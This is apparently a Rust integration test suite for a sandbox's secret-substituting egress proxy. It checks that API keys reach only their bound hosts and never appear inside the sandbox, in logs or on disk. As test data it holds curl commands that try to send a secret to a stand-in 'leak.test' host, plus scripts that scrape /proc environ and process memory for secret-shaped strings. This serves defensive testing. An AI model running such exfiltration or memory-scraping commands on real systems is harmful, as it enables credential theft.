//! Secrets through the egress proxy, on the network tests' test internet (see `network.rs`):
//! recording HTTPS and HTTP servers in the `inet` namespace (`secret.test` on 10.5.0.1,
//! `leak.test` on 10.6.0.1) with a CA of their own that the runtime's proxy is told to trust.
//! The servers see what the proxy sends; the sandbox must never see a value.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use sqrx_core::network::NetworkPolicy;
use sqrx_core::{ExecRequest, Sandbox, SandboxSpec, Secret};
use sqrx_testkit::net::RecordingServers;
use sqrx_testkit::privileged;

use crate::network::Bed;
use crate::sandbox::{block, sh};

fn sa(a: [u8; 4], port: u16) -> SocketAddr {
    SocketAddr::from((Ipv4Addr::from(a), port))
}

const SECRET_TLS: [u8; 4] = [10, 5, 0, 1];
const LEAK_TLS: [u8; 4] = [10, 6, 0, 1];

/// A value nobody could guess (so finding it anywhere means it leaked).
fn fresh_value(tag: &str) -> String {
    let mut b = [0u8; 12];
    getrandom::fill(&mut b).expect("random");
    format!("{tag}-{}", hex::encode(b))
}

/// A bed whose proxy trusts the recording servers' CA, the servers, and the CA file's dir.
fn bed() -> (Bed, RecordingServers, tempfile::TempDir) {
    let dir = tempfile::tempdir().expect("tempdir");
    let ca = dir.path().join("upstream-ca.pem");
    let bed = Bed::with(|c| c.upstream_ca = vec![ca.clone()]);
    let servers = RecordingServers::start(
        &bed.inet,
        &[sa(SECRET_TLS, 443), sa(LEAK_TLS, 443)],
        &[sa(SECRET_TLS, 80), sa(LEAK_TLS, 80)],
        &["secret.test", "leak.test"],
    );
    std::fs::write(&ca, &servers.ca_pem).expect("write the upstream CA");
    let web = sqrx_core::LayerName::new("100-web").expect("name");
    bed.t.python_layer();
    let layers = bed.t.rt.layers();
    layers
        .from_host(
            &web,
            &[
                "/usr/bin/curl".into(),
                "/usr/bin/node".into(),
                // requests, httpx and their dependencies (Debian's packages).
                "/usr/lib/python3/dist-packages".into(),
            ],
            &Default::default(),
        )
        .expect("clients layer");
    (bed, servers, dir)
}

fn spec(id: &str, secrets: &[(&str, Secret)]) -> SandboxSpec {
    let mut spec = SandboxSpec::new(id);
    spec.layers = vec!["000-base".into(), "100-py".into(), "100-web".into()];
    spec.network = NetworkPolicy::allow(&["secret.test", "leak.test"]).expect("policy");
    for (name, s) in secrets {
        spec.secrets.insert(name.to_string(), s.clone());
    }
    spec
}

/// Output (stdout and stderr) of `cmd` inside.
fn run(sb: &Sandbox, cmd: &str) -> String {
    let r = sh(sb, &format!("{cmd} 2>&1"));
    r.stdout_text()
}

/// The request a server got for `path`.
fn request_for(servers: &RecordingServers, path: &str) -> Option<sqrx_testkit::net::Recorded> {
    servers.requests().into_iter().find(|r| {
        r.head
            .lines()
            .next()
            .is_some_and(|l| l.contains(&format!(" {path} ")))
    })
}

/// The value of `header` in a recorded head.
fn header(r: &sqrx_testkit::net::Recorded, name: &str) -> Option<String> {
    r.head.lines().skip(1).find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.trim()
            .eq_ignore_ascii_case(name)
            .then(|| v.trim().to_string())
    })
}

#[test]
fn secrets_reach_their_hosts_from_every_client_and_never_the_sandbox() {
    if !privileged("secrets_clients") {
        return;
    }
    let (bed, servers, _ca) = bed();
    let value = fresh_value("api");
    let leak_value = fresh_value("leak");
    let sb = bed
        .t
        .rt
        .create(spec(
            "sec-clients",
            &[
                (
                    "API_KEY",
                    Secret {
                        allow_body: true,
                        ..Secret::new(value.as_str(), ["secret.test"])
                    },
                ),
                // Binds leak.test, so HTTPS to it is read too.
                ("LEAK_KEY", Secret::new(leak_value.as_str(), ["leak.test"])),
            ],
        ))
        .expect("create");
    let placeholder = run(&sb, "printf %s \"$API_KEY\"");
    assert!(
        placeholder.starts_with(sqrx_core::secrets::PLACEHOLDER_PREFIX),
        "{placeholder}"
    );

    // Every client, with the header, through the distro bundle or the variables sqrx sets.
    let clients = [
        (
            "curl",
            "curl -sS -m 10 -H \"X-Api-Key: $API_KEY\" https://secret.test/curl",
        ),
        (
            "urllib",
            "python3 -c \"import os, urllib.request as u; r = u.Request('https://secret.test/urllib', headers={'X-Api-Key': os.environ['API_KEY']}); print(u.urlopen(r, timeout=10).read().decode())\"",
        ),
        (
            "requests",
            "python3 -c \"import os, requests; print(requests.get('https://secret.test/requests', headers={'X-Api-Key': os.environ['API_KEY']}, timeout=10).text)\"",
        ),
        (
            "httpx",
            "python3 -c \"import os, httpx; print(httpx.get('https://secret.test/httpx', headers={'X-Api-Key': os.environ['API_KEY']}, timeout=10).text)\"",
        ),
        (
            "node-fetch",
            "node -e \"fetch('https://secret.test/node-fetch', {headers: {'X-Api-Key': process.env.API_KEY}}).then(r => r.text()).then(t => console.log(t), e => console.log('failed', e.cause || e))\"",
        ),
        (
            "node-https",
            "node -e \"require('https').get('https://secret.test/node-https', {headers: {'X-Api-Key': process.env.API_KEY}}, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => console.log(b)); }).on('error', e => console.log('failed', e))\"",
        ),
    ];
    for (client, cmd) in clients {
        let out = run(&sb, cmd);
        assert!(
            out.contains(&format!("ok GET /{client}")),
            "{client}: {out}"
        );
        let got = request_for(&servers, &format!("/{client}")).expect("recorded");
        assert_eq!(got.sni.as_deref(), Some("secret.test"), "{client}");
        assert_eq!(
            header(&got, "x-api-key").as_deref(),
            Some(value.as_str()),
            "{client}"
        );
    }

    // Basic credentials and (allowed for this secret) the body.
    let out = run(
        &sb,
        "curl -sS -m 10 -u \"me:$API_KEY\" https://secret.test/basic",
    );
    assert!(out.contains("ok GET /basic"), "{out}");
    let got = request_for(&servers, "/basic").expect("recorded");
    let auth = header(&got, "authorization").expect("authorization");
    let creds = {
        use base64::Engine as _;
        let b64 = auth.strip_prefix("Basic ").expect("basic");
        base64::engine::general_purpose::STANDARD
            .decode(b64)
            .expect("base64")
    };
    assert_eq!(creds, format!("me:{value}").as_bytes());
    let out = run(
        &sb,
        "curl -sS -m 10 -H 'Content-Type: application/json' -d \"{\\\"key\\\": \\\"$API_KEY\\\"}\" https://secret.test/body",
    );
    assert!(out.contains("ok POST /body"), "{out}");
    let got = request_for(&servers, "/body").expect("recorded");
    assert_eq!(got.body, format!("{{\"key\": \"{value}\"}}").as_bytes());

    // Refused, and never sent: another secret's host, plain HTTP, the URL.
    let refusals = [
        (
            "https://leak.test/wrong",
            "-H \"X-Api-Key: $API_KEY\"",
            sa(LEAK_TLS, 443),
            "leak.test",
        ),
        (
            "http://leak.test/plain",
            "-H \"X-Api-Key: $API_KEY\"",
            sa(LEAK_TLS, 80),
            "leak.test",
        ),
        (
            "http://secret.test/plain",
            "-H \"X-Api-Key: $API_KEY\"",
            sa(SECRET_TLS, 80),
            "secret.test",
        ),
    ];
    for (url, args, server, host) in refusals {
        let before = servers.connections(server);
        let out = run(
            &sb,
            &format!("curl -sS -m 10 -w ' %{{http_code}}' {args} {url}"),
        );
        assert!(out.contains("403"), "{url}: {out}");
        assert!(out.contains("\"secret\":\"API_KEY\""), "{url}: {out}");
        assert!(
            out.contains(&format!("\"host\":\"{host}\"")),
            "{url}: {out}"
        );
        assert!(!out.contains(&value), "{url}: the answer holds the value");
        assert_eq!(servers.connections(server), before, "{url} was contacted");
    }
    let out = run(
        &sb,
        "curl -sS -m 10 -w ' %{http_code}' \"https://secret.test/query?key=$API_KEY\"",
    );
    assert!(out.contains("403"), "{out}");
    assert!(request_for(&servers, "/query").is_none());
    // A placeholder-free request to the same host still passes.
    let out = run(&sb, "curl -sS -m 10 http://leak.test/free");
    assert!(out.contains("ok GET /free"), "{out}");
    // A client that does not trust the runtime's CA (pinning) fails; nothing is sent.
    let out = run(
        &sb,
        "curl -sS -m 10 --cacert /etc/ssl/certs/none.pem -H \"X-Api-Key: $API_KEY\" https://secret.test/pinned; echo exit=$?",
    );
    assert!(!out.contains("exit=0"), "{out}");
    assert!(request_for(&servers, "/pinned").is_none());

    // Rotation: the next request has the new value; the placeholder stays.
    let rotated = fresh_value("rotated");
    let mut sb = sb;
    sb.set_secret(
        "API_KEY",
        Secret {
            allow_body: true,
            ..Secret::new(rotated.as_str(), ["secret.test"])
        },
    )
    .expect("rotate");
    assert_eq!(run(&sb, "printf %s \"$API_KEY\""), placeholder);
    let out = run(
        &sb,
        "curl -sS -m 10 -H \"X-Api-Key: $API_KEY\" https://secret.test/rotated",
    );
    assert!(out.contains("ok GET /rotated"), "{out}");
    let got = request_for(&servers, "/rotated").expect("recorded");
    assert_eq!(header(&got, "x-api-key").as_deref(), Some(rotated.as_str()));

    // A runtime secret (sq-sandbox's file), read again on reload, rotated the same way.
    let rt_value = fresh_value("runtime");
    let file = sqrx_core::secrets::runtime_file(bed.t.rt.data_dir());
    let write_runtime = |v: &str| {
        let json = serde_json::json!({"secrets": {"RT_KEY": {
            "placeholder": "rt-placeholder-0001", "value": v, "allowed_hosts": ["secret.test"]}}});
        std::fs::write(&file, json.to_string()).expect("write secrets.json");
    };
    write_runtime(&rt_value);
    assert_eq!(bed.t.rt.reload_secrets().expect("reload"), 1);
    assert_eq!(run(&sb, "printf %s \"$RT_KEY\""), "rt-placeholder-0001");
    let out = run(
        &sb,
        "curl -sS -m 10 -H \"Authorization: Bearer $RT_KEY\" https://secret.test/runtime",
    );
    assert!(out.contains("ok GET /runtime"), "{out}");
    let got = request_for(&servers, "/runtime").expect("recorded");
    assert_eq!(
        header(&got, "authorization"),
        Some(format!("Bearer {rt_value}"))
    );
    let rt_rotated = fresh_value("runtime2");
    write_runtime(&rt_rotated);
    bed.t.rt.reload_secrets().expect("reload");
    run(
        &sb,
        "curl -sS -m 10 -H \"Authorization: Bearer $RT_KEY\" https://secret.test/runtime2",
    );
    let got = request_for(&servers, "/runtime2").expect("recorded");
    assert_eq!(
        header(&got, "authorization"),
        Some(format!("Bearer {rt_rotated}"))
    );
    // A broken file changes nothing and says which file.
    std::fs::write(&file, "{\"secrets\": {\"RT_KEY\": {\"value\": \"x\"}}}").expect("write");
    let e = bed
        .t
        .rt
        .reload_secrets()
        .expect_err("allowed_hosts is empty");
    assert!(e.to_string().contains("secrets.json"), "{e}");
    assert!(!e.to_string().contains(&rt_rotated));
    // Nobody is locked out: the runtime still opens (the server refuses to start instead),
    // with the secrets read last.
    let reopened = bed.reopen();
    assert_eq!(reopened.secrets()[0].name, "RT_KEY");

    let values = [&value, &leak_value, &rotated, &rt_value, &rt_rotated];
    // Inside: no file, no environment, no process memory holds a value (the scan runs right
    // after a request that carried one out, in a process that is still alive). The scans look
    // for anything shaped like the values (never the values themselves, which would put them
    // in the scanner), and the test compares what they found.
    let shape = "(api|leak|rotated|runtime2?)-[0-9a-f]{24}";
    // Controls: a value-shaped string in a file and in a process, which the scans must find.
    sb.write_file("/tmp/control", b"leak-0123456789abcdef01234567", 0o644)
        .expect("write the control");
    let files = run(
        &sb,
        &format!(
            "grep -rhoEs --exclude-dir=proc --exclude-dir=sys '{shape}' / ; \
             cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -oE '{shape}'; echo scanned"
        ),
    );
    assert!(files.contains("scanned"), "{files}");
    assert!(
        files.contains("leak-0123456789abcdef01234567"),
        "the file scan works: {files}"
    );
    let scan = format!(
        r#"
import os, re, requests
requests.get('https://secret.test/scan', headers={{'X-Api-Key': os.environ['API_KEY']}}, timeout=10)
shape = re.compile(rb'{shape}')
control = 'api-' + '%024x' % 0xabc
found, regions = set(), 0
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        maps = open(f'/proc/{{pid}}/maps').read().splitlines()
        mem = open(f'/proc/{{pid}}/mem', 'rb', 0)
    except OSError:
        continue
    for line in maps:
        addr, perms = line.split()[:2]
        if 'r' not in perms:
            continue
        lo, hi = (int(x, 16) for x in addr.split('-'))
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except (OSError, OverflowError, ValueError):
            continue
        regions += 1
        found.update(m.group(0).decode() for m in shape.finditer(chunk))
print('regions', regions, 'found', sorted(found))
"#
    );
    sb.write_file("/tmp/scan.py", scan.as_bytes(), 0o644)
        .expect("write the scanner");
    let memory = run(&sb, "python3 /tmp/scan.py");
    assert!(
        memory.contains("api-000000000000000000000abc"),
        "the memory scan works: {memory}"
    );
    assert!(!memory.contains("regions 0 "), "{memory}");
    assert!(request_for(&servers, "/scan").is_some());
    for v in values {
        assert!(
            !files.contains(v.as_str()),
            "a file or environment inside holds a value: {files}"
        );
        assert!(
            !memory.contains(v.as_str()),
            "a process inside holds a value: {memory}"
        );
    }

    // Outside: nothing sqrx shows or keeps readable by others holds a value.
    let shown = [
        serde_json::to_string(&sb.info()).expect("info"),
        serde_json::to_string(sb.spec()).expect("spec"),
        format!("{:?}", sb.spec()),
        serde_json::to_string(&sb.secrets()).expect("secrets"),
        serde_json::to_string(&bed.t.rt.secrets()).expect("runtime secrets"),
        serde_json::to_string(&sb.logs()).expect("logs"),
        std::fs::read_to_string(
            bed.t
                .dir
                .path()
                .join(format!("sandboxes/{}/state.json", sb.id())),
        )
        .expect("state"),
        std::fs::read_to_string(bed.t.dir.path().join("network/resolver.log")).unwrap_or_default(),
        std::fs::read_to_string(bed.t.dir.path().join("secrets/audit.jsonl")).expect("audit"),
    ];
    for text in &shown {
        for v in values {
            assert!(!text.contains(v.as_str()), "a value in: {text}");
        }
    }
    // The upper (what a snapshot packs) holds none either.
    let upper = bed
        .t
        .dir
        .path()
        .join(format!("sandboxes/{}/rw/upper", sb.id()));
    for entry in walkdir::WalkDir::new(&upper).into_iter().flatten() {
        if entry.file_type().is_file() {
            let bytes = std::fs::read(entry.path()).unwrap_or_default();
            for v in values {
                assert!(
                    !bytes.windows(v.len()).any(|w| w == v.as_bytes()),
                    "{} holds a value",
                    entry.path().display()
                );
            }
        }
    }
    // The value files are the host's root's only.
    for f in [
        bed.t
            .dir
            .path()
            .join(format!("sandboxes/{}/secrets.json", sb.id())),
        bed.t.dir.path().join("secrets/runtime.json"),
        bed.t.dir.path().join("secrets/ca.key"),
    ] {
        let mode = std::os::unix::fs::PermissionsExt::mode(
            &std::fs::metadata(&f).expect("meta").permissions(),
        );
        assert_eq!(mode & 0o077, 0, "{} is {mode:o}", f.display());
    }

    // Audited: substitutions and refusals, with names and hosts.
    let audit = sqrx_core::secrets::audit_records(bed.t.rt.data_dir());
    assert!(
        audit
            .iter()
            .any(|r| r.decision == sqrx_core::secrets::Decision::Substituted
                && r.secret == "API_KEY"
                && r.host == "secret.test"
                && r.path == "/curl"
                && r.method == "GET"
                && r.sandbox == "sec-clients")
    );
    assert!(
        audit
            .iter()
            .any(|r| r.decision == sqrx_core::secrets::Decision::Refused
                && r.secret == "API_KEY"
                && r.host == "leak.test"
                && r.path == "/wrong")
    );
    let totals = sqrx_core::secrets::audit_totals(bed.t.rt.data_dir());
    assert!(
        totals.substituted >= 10 && totals.refused >= 4,
        "{totals:?}"
    );
}

#[test]
fn with_the_proxy_down_requests_fail_and_nothing_leaks() {
    if !privileged("secrets_proxy_down") {
        return;
    }
    let (bed, servers, _ca) = bed();
    let value = fresh_value("down");
    let sb = bed
        .t
        .rt
        .create(spec(
            "sec-down",
            &[("API_KEY", Secret::new(value.as_str(), ["secret.test"]))],
        ))
        .expect("create");
    // HTTPS to a host no secret is bound to passes untouched (no interception).
    let out = run(
        &sb,
        "curl -sS -m 10 -w ' %{http_code}' --cacert /etc/sqrx/egress-ca.crt https://leak.test/untouched",
    );
    assert!(
        out.contains("SSL certificate problem") || out.contains("unable to get local issuer"),
        "curl trusting only sqrx's CA accepted leak.test's own certificate? {out}"
    );
    let out = run(
        &sb,
        "curl -sS -m 10 -H \"X-Api-Key: $API_KEY\" https://secret.test/up",
    );
    assert!(out.contains("ok GET /up"), "{out}");

    let pid: i32 = std::fs::read_to_string(bed.t.dir.path().join("network/resolver.pid"))
        .expect("the daemon's pid")
        .trim()
        .parse()
        .expect("pid");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGKILL,
    )
    .expect("kill the daemon");
    std::thread::sleep(Duration::from_millis(200));
    let before = servers.connections(sa(SECRET_TLS, 443));
    for url in ["https://secret.test/down", "http://secret.test/down-plain"] {
        let cmd = format!("curl -sS -m 5 -H \"X-Api-Key: $API_KEY\" {url}");
        let r = block(sb.exec(ExecRequest::new(cmd.as_str()))).expect("exec");
        assert_ne!(r.exit_code, Some(0), "{url}: {}", r.stdout_text());
    }
    assert_eq!(servers.connections(sa(SECRET_TLS, 443)), before);
    assert_eq!(servers.connections(sa(SECRET_TLS, 80)), 0);
    assert!(request_for(&servers, "/down").is_none());
}
